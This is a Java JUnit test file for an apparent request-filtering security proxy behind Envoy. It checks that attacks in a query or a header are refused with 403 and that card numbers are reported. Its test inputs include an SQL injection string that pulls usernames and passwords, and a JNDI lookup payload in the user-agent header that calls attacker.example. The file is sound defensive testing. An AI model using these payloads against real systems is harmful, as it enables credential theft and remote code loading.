package dev.sluice.standalone.extproc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * The request head through ext_proc: an attack in the target or a header is refused with 403 at
 * the request headers, whatever the body modes (nothing goes upstream); a card number in the
 * query is reported with the request body when Envoy sends one, and alone when it does not.
 */
class ExtProcRequestHeadTest {
    /** Removed with everything in it once the class has run (the event files of its fixtures). */
    @TempDir
    static Path tempRoot;

    private static ExtProcFixture fixture;

    @BeforeAll
    static void start() throws Exception {
        // The policy Sluice ships and embeds: attacks in requests blocked, personal data reported.
        fixture = ExtProcFixture.start(Files.createTempDirectory(tempRoot, "extproc-head"),
                Files.readString(Path.of("..", "deploy", "policies", "default.yaml")));
    }

    @AfterAll
    static void stop() throws Exception {
        ExtProcFixture.closeAll(fixture);
    }

    private static ExchangeResult run(BodyMode mode, HttpMessage request) {
        ExchangeResult r = fixture.envoy.run(EnvoyFilterConfig.both(mode), request,
                ExtProcProtocolTest.okResponse("{\"ok\":true}"));
        assertEquals(List.of(), r.spurious(), "spurious replies");
        assertFalse(r.timedOut(), "message timeout");
        assertNull(r.grpcError(), "gRPC error");
        return r;
    }

    @ParameterizedTest
    @EnumSource(BodyMode.class)
    void anAttackInTheQueryIsRefusedAtTheHeaders(BodyMode mode) throws Exception {
        HttpMessage get = HttpMessage.request("GET", "/search?q=0%20UNION%20SELECT%20username,password%20FROM%20users--",
                null, List.of());
        ExchangeResult r = run(mode, get);
        assertNotNull(r.localReply(), "refused");
        assertEquals(403, r.localReply().status());
        assertNull(r.requestHeaders(), "nothing went upstream");
        String id = ExtProcFixture.JSON.readTree(r.localReply().bodyText()).path("event_id").asText();
        assertEquals("{\"error\":\"blocked\",\"event_id\":\"" + id + "\"}", r.localReply().bodyText(),
                "the built-in answer, as sluice serve's");
        assertEquals("no-store", r.localReply().headers().get("cache-control"), "a refusal is never cached");
        JsonNode event = fixture.awaitEvent(e -> e.path("exchangeId").asText().equals(id));
        assertEquals("detector:attack.sqli", event.path("reason").asText());
        assertEquals("query:q", event.path("findings").get(0).path("path").asText());
    }

    @ParameterizedTest
    @EnumSource(BodyMode.class)
    void anAttackInAHeaderIsRefusedBeforeTheBody(BodyMode mode) {
        HttpMessage post = ExtProcProtocolTest.jsonRequest("{\"q\":\"winter boots\"}")
                .withHeader("user-agent", "${jndi:ldap://attacker.example/a}");
        ExchangeResult r = run(mode, post);
        assertNotNull(r.localReply(), "refused");
        assertEquals(403, r.localReply().status());
        assertNull(r.requestHeaders(), "nothing went upstream");
    }

    @ParameterizedTest
    @EnumSource(value = BodyMode.class, names = {"STREAMED", "BUFFERED", "BUFFERED_PARTIAL"})
    void aCardInTheQueryIsReportedWithTheBody(BodyMode mode) throws Exception {
        HttpMessage post = HttpMessage.request("POST", "/pay?card=4111111111111111", "application/json",
                HttpMessage.whole("{\"email\":\"jo@mail.net\"}"));
        ExchangeResult r = run(mode, post);
        assertNull(r.localReply());
        JsonNode event = fixture.awaitEventOf(r, "request");
        List<String> paths = event.path("findings").findValuesAsText("path");
        assertEquals(List.of("$.email", "query:card"), paths.stream().sorted().toList(), event.toString());
    }

    @Test
    void aCardInTheQueryIsReportedAloneWhenNoBodyComes() throws Exception {
        BodyMode mode = BodyMode.NONE;
        HttpMessage post = HttpMessage.request("POST", "/pay-headers-only?card=4111111111111111", "application/json",
                HttpMessage.whole("{\"email\":\"jo@mail.net\"}"));
        ExchangeResult r = run(mode, post);
        assertNull(r.localReply());
        JsonNode event = fixture.awaitEvent(e -> e.path("path").asText().equals("/pay-headers-only")
                && e.path("direction").asText().equals("request") && e.toString().contains("query:card"));
        assertEquals(List.of("query:card"), event.path("findings").findValuesAsText("path"));
    }
}
